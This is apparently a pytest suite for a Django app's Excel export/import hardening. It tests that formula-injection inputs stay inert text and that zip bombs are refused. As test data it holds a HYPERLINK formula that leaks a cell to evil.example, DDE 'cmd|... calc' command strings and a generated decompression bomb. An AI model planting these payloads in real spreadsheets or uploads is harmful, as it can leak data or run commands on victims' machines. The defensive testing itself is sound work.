"""Excel export and import hardening (core/xlsx.py), tested by reading the files back."""

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from chuangwen.cases.models import Case
from chuangwen.core import xlsx
from chuangwen.core.errors import ImportFailed
from chuangwen.org import services as org
from tests.cases.conftest import IN_A, CaseCity
from tests.cases.test_views import form_token

EVIL = '=HYPERLINK("http://evil.example/?c="&A2,"查看照片")'
TRIGGERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]


def _formula_cells(data: bytes) -> list[str]:
    """Every formula cell of every sheet, read back the way Excel's engine would see it."""
    wb = load_workbook(io.BytesIO(data))
    found = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", zf.read(name)):
                found.append(name)
    return found


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_every_text_that_excel_would_run_is_written_as_text():
    data = xlsx.write_workbook(
        [xlsx.Sheet("t", ["a", "b", "c", "d"], [[v, 7, -3.5, date(2026, 1, 2)] for v in TRIGGERS])]
    )
    assert _formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == TRIGGERS
    # numbers and dates stay what they are
    assert all(r[1] == 7 and r[2] == -3.5 and r[3].date() == date(2026, 1, 2) for r in rows)
    # shown as typed after an apostrophe: stays text when the cell is edited in Excel
    assert all(c.quotePrefix for c in ws["A"][1:])


def test_control_characters_in_user_text_do_not_break_an_export():
    data = xlsx.write_workbook([xlsx.Sheet("t", ["a"], [["路灯\x00不亮\x1b"]])])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "路灯不亮"


def test_no_export_writes_a_workbook_outside_the_core_helper():
    root = Path(__file__).resolve().parents[2] / "chuangwen"
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "xlsx.py"
        and re.search(r"^\s*(from|import) openpyxl", p.read_text(encoding="utf-8"), re.M)
    ]
    assert offenders == []


@pytest.fixture
def cc(small_city):
    return CaseCity(small_city)


def _public_report(cc, text, phone="13912345678"):
    anon, url = Client(), reverse("cases:public_report", args=[cc.city.code])
    r = anon.post(
        url,
        {
            "description": text,
            "phone": phone,
            "lon": IN_A[0],
            "lat": IN_A[1],
            "token": form_token(anon, url),
        },
    )
    assert r.status_code == 302, r.context["form"].errors


def test_an_anonymous_report_cannot_plant_a_formula_in_the_case_export(cc, client_for):
    _public_report(cc, EVIL)
    org.update_unit(cc.community_a, name="＝cmd|' /C calc'!A0", acting_user=cc.office.user)
    office = client_for(cc.office)
    r = office.get(reverse("cases:export"))
    assert r.status_code == 200
    data = _body(r)
    assert _formula_cells(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["E2"].value == EVIL and ws["E2"].data_type == "s"
    r = office.get(reverse("org:export", args=["units"]))
    assert _formula_cells(_body(r)) == []


def test_the_background_export_file_is_inert_too(
    cc, client_for, monkeypatch, django_capture_on_commit_callbacks
):
    from chuangwen.cases import exports
    from chuangwen.core.models import Job

    for i in range(3):
        _public_report(cc, f"{EVIL}{i}", phone=f"1391234567{i}")
    monkeypatch.setattr(exports, "DIRECT_EXPORT_ROWS", 1)
    office = client_for(cc.office)
    with django_capture_on_commit_callbacks(execute=True):
        office.get(reverse("cases:export"))
    job = Job.objects.get()
    r = office.get(job.result["url"])
    assert r.status_code == 200
    assert _formula_cells(_body(r)) == []


def _xlsx(headers, rows) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_a_12345_order_text_stays_text_through_import_and_export(cc, client_for):
    data = _xlsx(
        ["工单编号", "诉求内容", "问题地址"], [["GD9", "-2+3+cmd|' /C calc'!A0", "甲社区"]]
    )
    office = client_for(cc.office)
    r = office.post(reverse("cases:import"), {"file": SimpleUploadedFile("o.xlsx", data)})
    assert r.status_code == 302 and Case.objects.count() == 1
    assert _formula_cells(_body(office.get(reverse("cases:export")))) == []


# --- imports ----------------------------------------------------------------------------------


def test_a_formula_without_a_computed_value_is_named_as_such():
    wb = Workbook()
    ws = wb.active
    ws.append(["单位编码", "单位名称"])
    ws.append(["A1", '=B5&"局"'])  # openpyxl saves formulas without a cached value
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ImportFailed) as info:
        list(xlsx.read_rows(buf.getvalue(), ["单位编码", "单位名称"]))
    [error] = info.value.errors
    assert (error.row, error.column) == (2, "单位名称")
    assert "公式" in error.message and "计算结果" in error.message


def _zip(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    return buf.getvalue()


def test_an_xlsx_that_expands_far_beyond_its_size_is_refused_before_parsing():
    base = _xlsx(["单位编码"], [["A"]])
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    row = b'<row r="2"><c r="A2" t="inlineStr"><is><t>' + b"x" * 1000 + b"</t></is></c></row>"
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"</sheetData>", row * 200_000 + b"</sheetData>"
    )
    bomb = _zip(parts)
    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(ImportFailed) as info:
        list(xlsx.read_rows(bomb, ["单位编码"]))
    assert "解压后" in info.value.errors[0].message and "恶意" in info.value.errors[0].message


def test_a_zip_with_too_many_entries_is_refused():
    with pytest.raises(ImportFailed) as info:
        xlsx.open_workbook(_zip({f"x/{i}.xml": b"" for i in range(xlsx.MAX_ZIP_ENTRIES + 1)}))
    assert "部件" in info.value.errors[0].message


def test_a_sheet_claiming_a_million_columns_reads_only_its_own_cells():
    base = _xlsx(["单位编码", "单位名称"], [["A", "甲"]])
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = re.sub(
        rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', sheet
    )
    rows = list(xlsx.read_rows(_zip(parts), ["单位编码", "单位名称"]))
    assert rows == [(2, {"单位编码": "A", "单位名称": "甲"})]


def test_a_broken_zip_gets_a_clear_chinese_message():
    good = _xlsx(["单位编码"], [["A"]])
    with pytest.raises(ImportFailed) as info:
        xlsx.open_workbook(good[: len(good) // 2])
    message = info.value.errors[0].message
    assert "无法读取 Excel 文件" in message and "损坏" in message
    assert not re.search(r"[A-Za-z]{4,}", message.replace("Excel", "").replace(".xlsx", ""))


def test_lengths_are_checked_against_the_model_fields():
    from chuangwen.org.models import Unit

    limits = xlsx.max_lengths(Unit, 单位编码="code", 单位名称="name")
    assert limits == {"单位编码": 40, "单位名称": 100}
    errors = xlsx.ErrorCollector("单位")
    assert errors.check_lengths(2, {"单位编码": "A" * 40, "单位名称": "名"}, limits)
    assert not errors.check_lengths(3, {"单位编码": "A" * 66, "单位名称": "名"}, limits)
    [e] = errors.errors
    assert (e.row, e.column) == (3, "单位编码") and "66" in e.message and "40" in e.message
